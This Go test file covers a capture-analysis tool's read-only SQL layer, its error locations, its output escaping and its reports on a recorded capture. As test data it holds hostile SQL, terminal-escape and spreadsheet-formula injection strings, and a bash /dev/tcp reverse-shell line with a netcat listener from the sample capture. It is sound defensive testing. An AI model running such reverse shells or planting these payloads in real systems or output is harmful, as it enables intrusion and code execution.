package query

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"strings"
	"testing"
	"time"
)

// TestSQLCannotWriteAnywhere tries what a hostile statement would.
func TestSQLCannotWriteAnywhere(t *testing.T) {
	ix := buildIndex(t, sharedCapture(t, "01_cat_shadow.scap"))
	dir := t.TempDir()
	before, err := os.ReadFile(ix.Path())
	if err != nil {
		t.Fatal(err)
	}
	for _, sql := range []string{
		"DELETE FROM event",
		"UPDATE meta SET value = 0",
		"INSERT INTO meta VALUES ('x', 1)",
		"CREATE TABLE x(y)",
		"CREATE TEMP TABLE x(y)",
		"DROP TABLE event",
		"ATTACH '" + dir + "/x.db' AS x",
		"VACUUM INTO '" + dir + "/y.db'",
		"PRAGMA journal_mode=WAL",
		"PRAGMA query_only=OFF",
		"PRAGMA user_version=7",
		"PRAGMA writable_schema=ON",
		"SELECT load_extension('x.so')",
		"CREATE VIRTUAL TABLE x USING fts3(a)",
		"BEGIN IMMEDIATE",
		"WITH x AS (SELECT 1) DELETE FROM alert",
	} {
		res, err := ix.SQL(t.Context(), sql)
		if err == nil {
			_, err = res.Next()
			res.Close()
		}
		if err == nil || err == io.EOF {
			t.Errorf("%s: allowed", sql)
		}
	}
	if left, _ := os.ReadDir(dir); len(left) > 0 {
		t.Errorf("files were made: %v", left)
	}
	after, err := os.ReadFile(ix.Path())
	if err != nil || !bytes.Equal(before, after) {
		t.Errorf("the index has changed: %v", err)
	}
	for _, sql := range []string{"SELECT count(*) FROM events", "EXPLAIN QUERY PLAN SELECT * FROM events", "PRAGMA table_info(event)",
		"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT sum(i) FROM n"} {
		if rows := ask(t, ix, sql); len(rows) == 0 {
			t.Errorf("%s: no rows", sql)
		}
	}
}

func TestSQLErrorsHaveAPlace(t *testing.T) {
	ix := buildIndex(t, sharedCapture(t, "01_cat_shadow.scap"))
	for _, test := range []struct {
		sql          string
		line, column int
	}{
		{"SELECT *\nFORM events", 2, 1},
		{"SELECT proc_nam FROM events", 1, 8},
		{"SELECT num\nFROM event\nWHERE nosuch(num)", 3, 7},
		{"SELECT 1 FROM evnts", 1, 15},
		{"SELECT (1", 1, 10},
	} {
		_, err := ix.SQL(t.Context(), test.sql)
		var se *SQLError
		if !errors.As(err, &se) {
			t.Errorf("%q: error %v is no SQLError", test.sql, err)
			continue
		}
		if se.Line != test.line || se.Column != test.column {
			t.Errorf("%q: place is %d:%d, want %d:%d (%v)", test.sql, se.Line, se.Column, test.line, test.column, se)
		}
	}
}

func TestSQLStopsWithItsContext(t *testing.T) {
	ix := buildIndex(t, sharedCapture(t, "01_cat_shadow.scap"))
	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	res, err := ix.SQL(ctx, "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n")
	if err == nil {
		_, err = res.Next()
		res.Close()
	}
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("endless statement ends with %v", err)
	}
}

func TestSQLFunctions(t *testing.T) {
	ix := buildIndex(t, sharedCapture(t, "03_reverse_shell_fake_container.scap"))
	for sql, want := range map[string]string{
		"SELECT ts(1500000000123456789)":                "2017-07-14T02:40:00.123456789Z",
		"SELECT ts('2017-07-14T02:40:00.123456789Z')":   "1500000000123456789",
		"SELECT ts(NULL) IS NULL":                       "1",
		"SELECT human_bytes(12345678)":                  "11.8 MiB",
		"SELECT ip_in('10.1.2.3', '10.0.0.0/8')":        "1",
		"SELECT ip_in('11.1.2.3', '10.0.0.0/8')":        "0",
		"SELECT ip_in('::ffff:10.1.2.3', '10.0.0.0/8')": "1",
		"SELECT ip_in('/run/x', '10.0.0.0/8') IS NULL":  "1",
		"SELECT ip_in(NULL, '10.0.0.0/8') IS NULL":      "1",
		"SELECT count(*) > 3 FROM events WHERE match(num, 'evt.type = execve and proc.aname = timeout')": "1",
		"SELECT evt(4048) LIKE '%connect%127.0.0.1:44451%'":                                              "1",
	} {
		if rows := ask(t, ix, sql); len(rows) != 1 || rows[0][0] != want {
			t.Errorf("%s: %v, want %s", sql, rows, want)
		}
	}
	for _, sql := range []string{"SELECT ip_in('10.0.0.1', 'ten')", "SELECT ts('soon')", "SELECT match(1, 'no.such = field')", "SELECT evt(99999999)"} {
		res, err := ix.SQL(t.Context(), sql)
		if err == nil {
			_, err = res.Next()
			res.Close()
		}
		if err == nil {
			t.Errorf("%s: no error", sql)
		}
	}
	// match finds what Find finds.
	want := len(found(t, ix, "proc.aname = timeout"))
	if rows := ask(t, ix, "SELECT count(*) FROM event WHERE match(num, 'proc.aname = timeout')"); rows[0][0] != cellText(int64(want)) {
		t.Errorf("match finds %s events, Find %d", rows[0][0], want)
	}
}

func TestSplitSQL(t *testing.T) {
	for script, want := range map[string][]string{
		"SELECT 1; SELECT 2":                    {"SELECT 1", "SELECT 2"},
		"SELECT ';' ; -- a; b\nSELECT \"x;y\";": {"SELECT ';'", "-- a; b\nSELECT \"x;y\""},
		"/* ; */ SELECT [a;b];;":                {"/* ; */ SELECT [a;b]"},
		"-- nothing\n":                          nil,
		"SELECT 'it''s; fine'":                  {"SELECT 'it''s; fine'"},
		"SELECT 'open":                          {"SELECT 'open"},
	} {
		if got := SplitSQL(script); strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("SplitSQL(%q) = %q, want %q", script, got, want)
		}
	}
}

func FuzzSplitSQL(f *testing.F) {
	f.Add("SELECT 1; SELECT ';' -- x")
	f.Add("/* [ ` \" ' ;")
	f.Fuzz(func(t *testing.T, s string) {
		total := 0
		for _, part := range SplitSQL(s) {
			if !strings.Contains(s, part) {
				t.Errorf("%q is no part of %q", part, s)
			}
			total += len(part)
		}
		if total > len(s) {
			t.Errorf("the parts of %q are longer than it", s)
		}
	})
}

// hostile is text that means harm to a terminal, a spreadsheet or a parser.
var hostile = []string{"\x1b]52;c;QQ==\a", "a\nb", "=cmd|'/C calc'!A0", "+1", "-1+2", "@SUM(1)", "\xff\xfe", "\u202egnp", "a,b\"c"}

func TestOutputIsHarmless(t *testing.T) {
	var rows [][]any
	for i, s := range hostile {
		rows = append(rows, []any{int64(-i), s, nil})
	}
	src := func() RowSource { r := sliceRows(rows); return &r }
	cols := []string{"n", "text", "nothing"}
	var table, csv, js bytes.Buffer
	for _, w := range []Writer{&TableWriter{W: &table}, &CSVWriter{W: &csv}, &JSONWriter{W: &js}} {
		if n, err := w.Write(cols, src()); err != nil || n != int64(len(rows)) {
			t.Fatalf("%T: %d rows, %v", w, n, err)
		}
	}
	for name, b := range map[string][]byte{"table": table.Bytes(), "csv": csv.Bytes()} {
		if bytes.ContainsAny(b, "\x1b\a\u202e") || bytes.Contains(b, []byte{0xff}) {
			t.Errorf("%s holds raw control characters: %q", name, b)
		}
		if n := bytes.Count(b, []byte{'\n'}); n != len(rows)+1 {
			t.Errorf("%s has %d lines, want %d", name, n, len(rows)+1)
		}
	}
	for _, want := range []string{"'=cmd", "'+1", "'-1+2", "'@SUM", "-3,"} {
		if !strings.Contains(csv.String(), want) {
			t.Errorf("csv lacks %q:\n%s", want, csv.String())
		}
	}
	if want := `{"n":0,"text":"\u001b]52;c;QQ==\u0007","nothing":null}`; !strings.HasPrefix(js.String(), want) {
		t.Errorf("json is\n%s\nwant\n%s", js.String(), want)
	}
	if !strings.Contains(js.String(), `"\udcff\udcfe"`) {
		t.Errorf("json has lost bytes that are no UTF-8:\n%s", js.String())
	}
}

func TestReportsOfARealCapture(t *testing.T) {
	ix := buildIndex(t, sharedCapture(t, "03_reverse_shell_fake_container.scap"))
	for name, test := range map[string]struct{ arg, want string }{
		"summary":     {"", "13102"},
		"processes":   {"", "nc.openbsd -N -l 127.0.0.1 44451"},
		"tree":        {"", "bash -c bash -i >& /dev/tcp/127.0.0.1/44451 0>&1"},
		"files":       {"", "/tmp/peers-scn/rsc/out1"},
		"connections": {"", "127.0.0.1:46052->127.0.0.1:44451"},
		"listening":   {"", "44453"},
		"execs":       {"", "/usr/bin/nc.openbsd"},
		"users":       {"", "3f1c0ffee0dd"},
		"alerts":      {"", ""},
		"errors":      {"", "ENOENT"},
		"timeline":    {"", "#"},
		"top":         {"proc.name", "mkdir"},
		"story":       {"/tmp/peers-scn/rsc/out1", "nc.openbsd"},
	} {
		t.Run(name, func(t *testing.T) {
			r, err := FindReport(name)
			if err != nil {
				t.Fatal(err)
			}
			res, err := r.Run(t.Context(), ix, ReportOptions{Arg: test.arg})
			if err != nil {
				t.Fatal(err)
			}
			defer res.Close()
			var b bytes.Buffer
			if _, err := (&TableWriter{W: &b}).Write(res.Columns, res); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(b.String(), test.want) {
				t.Errorf("report lacks %q:\n%s", test.want, b.String())
			}
		})
	}
	for _, r := range Reports() {
		if r.Arg != "" {
			if _, err := r.Run(t.Context(), ix, ReportOptions{}); err == nil {
				t.Errorf("%s without its argument: no error", r.Name)
			}
		}
	}
}
